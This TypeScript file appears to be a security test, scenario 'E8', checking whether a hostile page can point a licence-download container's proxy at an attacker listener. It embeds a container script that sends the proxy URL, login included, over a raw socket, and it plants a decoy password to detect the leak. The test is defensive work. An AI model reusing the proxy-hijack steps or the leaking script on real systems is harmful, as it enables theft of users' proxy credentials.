import type { ProxyState } from '#shared/domain/proxy.ts';
import { type Attack, brokenBy } from './attack.ts';
import { askedFor, scripted } from './images.ts';
import { HOST_SEEN_BY_CONTAINERS, listen } from './listener.ts';
import { until } from './wait.ts';

/** Writes a licence, and connects to the proxy that it was given, with the login for it. */
const SCRIPT = `
require('fs').writeFileSync('/licence/a.lic','{"expires":"2030-01-01"}');
const {HTTPS_PROXY}=process.env;
if(HTTPS_PROXY){const {hostname,port}=new URL(HTTPS_PROXY);
require('net').connect(port,hostname,function(){this.end(HTTPS_PROXY)}).on('error',()=>0);}`;

/** A page names a listener as the proxy of licence containers, by each call that could, and has a licence downloaded. */
export const namedProxy: Attack = {
  id: 'E8',
  what: 'a proxy that the page names is given licence downloads and its login',
  quick: true,
  async play(field) {
    const app = await field.start();
    const { deployment } = await scripted(app, 'through-a-proxy', SCRIPT);
    const download = askedFor(deployment.id);
    // The operator confirms the image, and a proxy with a login.
    const first = await app.run('license.download', download, 60_000);
    if (first.state.name !== 'succeeded') throw new Error(`the download: ${JSON.stringify(first.state)}`);
    const own = (address: string) => ({ use: 'own', address, noProxy: '' });
    const password = 'decoy-proxy-password';
    const login = { username: 'operator', password, keep: 'session' };
    await app.get('license.setProxy', { proxy: own('http://proxy.plant.example:3128'), login });

    const ear = await listen(field, undefined, '0.0.0.0');
    const address = `http://${HOST_SEEN_BY_CONTAINERS}:${ear.port}`;
    await app.dialogs.answer('no');
    await app.ask('license.setProxy', { proxy: own(address) });
    await app.ask('app.setPreferences', { licenceProxy: own(address) });
    await app.get('app.setPreferences', {}); // the app knows the call; what it does not know is a proxy in it
    const asked = (await app.dialogs.asked()).length;
    const { used } = await app.get<ProxyState>('license.proxy');
    await app.run('license.download', download, 60_000);
    const reached = await until(async () => ear.connections() > 0, 3_000);
    return brokenBy(
      [
        ...(used?.address === address ? ['the page’s address is the proxy'] : []),
        ...(reached ? ['the licence container connected to it'] : []),
        ...(ear.heard().includes(password) ? ['the listener got the login'] : []),
      ],
      `no connection; asked: ${asked}`,
    );
  },
};
